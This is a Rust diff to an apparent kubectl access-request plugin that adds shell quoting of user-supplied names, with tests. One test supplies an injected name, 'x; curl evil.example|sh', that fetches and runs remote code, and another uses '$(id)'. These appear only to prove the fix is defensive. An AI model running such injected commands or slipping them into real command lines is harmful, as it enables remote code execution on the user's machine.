@@ -340,17 +340,36 @@ impl std::fmt::Display for RequestCommand<'_, '_> {
             RequestCommand::File => return f.write_str(" -f FILE --reason \"...\""),
             RequestCommand::For(req) | RequestCommand::Read(req, _) => req,
         };
-        write!(f, " --resource {}", req.resource_path())?;
+        write!(f, " --resource {}", shell_word(&req.resource_path()))?;
         if !req.namespace().is_empty() {
-            write!(f, " -n {}", req.namespace())?;
+            write!(f, " -n {}", shell_word(req.namespace()))?;
         }
         if !req.name().is_empty() {
-            write!(f, " --name {}", req.name())?;
+            write!(f, " --name {}", shell_word(req.name()))?;
         }
         if let RequestCommand::Read(_, max) = self {
-            write!(f, " --verb {} --for {} --reason \"...\"", req.verb(), human(*max))?;
+            write!(
+                f,
+                " --verb {} --for {} --reason \"...\"",
+                shell_word(req.verb()),
+                human(*max)
+            )?;
         }
         Ok(())
+    }
+}
+
+/// `s` as one word of a POSIX shell: as it is when it holds only `[A-Za-z0-9._:/@=-]`,
+/// else in single quotes (a quote inside as `'\''`). A name from a review is anyone's
+/// choice: `x; curl …|sh` must read as a name, not as a second command.
+pub fn shell_word(s: &str) -> std::borrow::Cow<'_, str> {
+    let plain = !s.is_empty()
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "._:/@=-".contains(c));
+    if plain {
+        std::borrow::Cow::Borrowed(s)
+    } else {
+        std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
     }
 }
 
@@ -497,7 +516,7 @@ spec:
         let req = decode(body.as_bytes()).unwrap();
         assert_eq!(
             RequestCommand::For((&req).into()).to_string(),
-            "kubectl jitgate request --resource secrets -n prod --name db\"pass"
+            "kubectl jitgate request --resource secrets -n prod --name 'db\"pass'"
         );
         let cluster = body
             .replace(r#""namespace":"prod","#, r#""namespace":"","#)
@@ -513,6 +532,26 @@ spec:
             "kubectl jitgate request -f FILE --reason \"...\""
         );
         assert!(message(&[]).contains(&RequestCommand::File.to_string()));
+    }
+
+    #[test]
+    fn the_request_command_quotes_a_name_the_shell_would_read_as_more() {
+        let body = body().replace(
+            r#""name":"db\"pass","#,
+            r#""name":"x; curl evil.example|sh 'a'","#,
+        );
+        let req = decode(body.as_bytes()).unwrap();
+        let command = RequestCommand::For((&req).into()).to_string();
+        assert_eq!(
+            command,
+            r#"kubectl jitgate request --resource secrets -n prod --name 'x; curl evil.example|sh '\''a'\'''"#
+        );
+        // A read's denial (SubjectAccessReview) shows the same quoting.
+        let read = RequestCommand::Read((&req).into(), jiff::SignedDuration::from_hours(1)).to_string();
+        assert!(read.contains("--name 'x; curl evil.example|sh '"), "{read}");
+        assert_eq!(shell_word("db-password.v2@x:y/z=1"), "db-password.v2@x:y/z=1");
+        assert_eq!(shell_word(""), "''");
+        assert_eq!(shell_word("$(id)"), "'$(id)'");
     }
 
     #[test]
